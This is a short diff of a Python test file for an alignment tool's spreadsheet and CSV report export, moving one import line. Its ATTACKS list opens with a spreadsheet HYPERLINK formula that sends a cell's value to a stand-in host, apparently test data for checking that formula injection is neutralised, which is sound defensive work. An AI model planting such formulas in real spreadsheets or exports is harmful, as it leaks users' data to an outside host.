@@ -7,14 +7,13 @@ import zipfile
 
 import openpyxl
 import pytest
+from review_helpers import seed_links, write_run
 
 from align.cli import main
 from align.model import Flag, Link
 from align.report.cells import csv_cell, starts_formula
 from align.report.xlsx import write_report_xlsx
 from align.review.workspace import Workspace
-
-from review_helpers import seed_links, write_run
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
